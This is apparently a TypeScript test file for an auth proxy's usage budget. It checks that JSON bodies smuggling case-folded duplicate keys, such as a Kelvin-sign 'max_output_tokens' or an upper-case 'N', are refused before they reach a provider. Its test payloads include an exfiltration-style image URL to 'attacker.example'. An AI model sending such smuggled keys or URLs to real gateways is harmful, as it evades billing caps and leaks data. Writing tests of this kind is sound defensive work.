/**
 * Attack: a key the budget does not read, which a compatible provider's parser reads as one it
 * does. Go's encoding/json (behind many OpenAI-compatible gateways) matches an object's keys to
 * its fields without regard to case, under Unicode folding (`K`, the Kelvin sign, is `k`; `ſ` is
 * `s`), the last match winning. The budget reads keys exactly, with JSON.parse, so
 * `{"max_output_tokens": 10, "MAX_OUTPUT_TOKENS": 100000}` was reserved at 10 output tokens and
 * billed 100k, and `"N": 4` asked for four replies against one reservation.
 *
 * The bound (SECURITY.md, "The budget reads the body the vendor reads"): two keys of one object
 * that are equal once case-folded are a key given twice, and a top-level key that is not in the
 * APIs' lowercase (every API field is) is refused too, cap or not. Nothing reaches the provider.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
import { offBodyReasons } from '../../../auth-proxy/usage/off-body-input.ts';
import { parseBillableBody } from '../../../auth-proxy/usage/request-screen.ts';
import { sidecarFor, type StandInVendor, startStandInVendor } from './sidecar-fixture.ts';

/** Go's case-insensitive field match: the last key that folds to `name` wins. */
const fold = (k: string) => k.toUpperCase().toLowerCase();
function goRead(doc: Record<string, unknown>, name: string): unknown {
  let v: unknown;
  for (const [k, x] of Object.entries(doc)) if (fold(k) === name) v = x;
  return v;
}

let vendor: StandInVendor;
let forwarded = 0;
beforeAll(async () => {
  vendor = await startStandInVendor((_req, raw, res) => {
    forwarded++;
    const doc = JSON.parse(raw.toString()) as Record<string, unknown>;
    const replies = Number(goRead(doc, 'n') ?? 1);
    const usage = { input_tokens: 10, output_tokens: replies * Number(goRead(doc, 'max_output_tokens') ?? 1000), input_tokens_details: { cached_tokens: 0 } };
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ object: 'response', model: 'gpt-5.4', output: [], usage }));
  });
});
afterAll(() => vendor.close());
beforeEach(() => {
  forwarded = 0;
});

const post = (url: string, body: string) =>
  fetch(`${url}/v1/responses`, { method: 'POST', headers: { 'content-type': 'application/json' }, body }).then(async (r) => ({ status: r.status, text: await r.text() }));

const CAP = 50_000;
const CASES = [
  { what: 'an upper-case output cap beside the real one', body: '{"model": "gpt-5.4", "input": "hi", "max_output_tokens": 10, "MAX_OUTPUT_TOKENS": 100000}' },
  { what: 'an output cap spelled with the Kelvin sign', body: '{"model": "gpt-5.4", "input": "hi", "max_output_tokens": 10, "max_output_to\\u212aens": 100000}' },
  { what: 'an upper-case "N" asking for several replies', body: '{"model": "gpt-5.4", "input": "hi", "max_output_tokens": 20000, "N": 4}' },
];

describe('keys a case-insensitive parser reads as the budget\'s', () => {
  for (const c of CASES) {
    test(`${c.what}: refused before it goes out, so the ${CAP}-token cap holds`, async () => {
      const sc = await sidecarFor('openai', vendor.port, { maxTokens: CAP });
      try {
        const r = await post(sc.s.url, c.body);
        // Without the fix it went out, reserved at ~1k or ~21k tokens and billed 80k to 100k.
        expect({ status: r.status, forwarded, withinCap: sc.s.ledger.totals.tokens <= CAP }).toEqual({ status: 400, forwarded: 0, withinCap: true });
        expect(r.text).toContain(c.what.includes('"N"') ? 'peers_key_case' : 'peers_duplicate_json_key');
      } finally {
        await sc.close();
      }
    });
  }

  test('a tool whose type is given in another case is refused, cap or not: a case-insensitive parser reads it as a server tool', async () => {
    const sc = await sidecarFor('anthropic', vendor.port, {});
    try {
      const body = { model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'search' }], tools: [{ name: 'web_search', TYPE: 'web_search_20250305' }] };
      const r = await fetch(`${sc.s.url}/v1/messages`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
      // Without the fix it went out as a custom tool (no `type`), which such a provider runs as its web search.
      expect({ status: r.status, forwarded }).toEqual({ status: 402, forwarded: 0 });
      expect(await r.text()).toContain('is not lower-case');
    } finally {
      await sc.close();
    }
  });

  test('a content part naming an image URL in another case is refused, cap or not: such a parser would fetch it', async () => {
    const sc = await sidecarFor('openai', vendor.port, {});
    try {
      const r = await post(sc.s.url, JSON.stringify({ model: 'gpt-5.4', input: [{ role: 'user', content: [{ type: 'input_image', Image_Url: 'https://attacker.example/exfil?data=secret' }] }] }));
      expect({ status: r.status, forwarded }).toEqual({ status: 400, forwarded: 0 });
      expect(r.text).toContain('peers_vendor_reach');
    } finally {
      await sc.close();
    }
  });

  test('what the CLIs send still parses: camelCase in schemas and tool inputs, one spelling per key', () => {
    const body = { model: 'claude-sonnet-4-5', max_tokens: 100, tools: [{ name: 'edit', input_schema: { type: 'object', properties: { filePath: { type: 'string' }, oldString: { type: 'string' } } } }], messages: [{ role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'edit', input: { filePath: 'a', URL: 'b' } }] }], metadata: { user_id: 'u' } };
    expect(parseBillableBody(JSON.stringify(body)).ok).toBe(true);
    expect(offBodyReasons(body, 'anthropic')).toEqual({ reach: null, unbounded: null });
    expect(offBodyReasons({ model: 'gpt-5.4', input: 'hi', metadata: { Team: 'a' } }, 'openai')).toEqual({ reach: null, unbounded: null });
  });
});
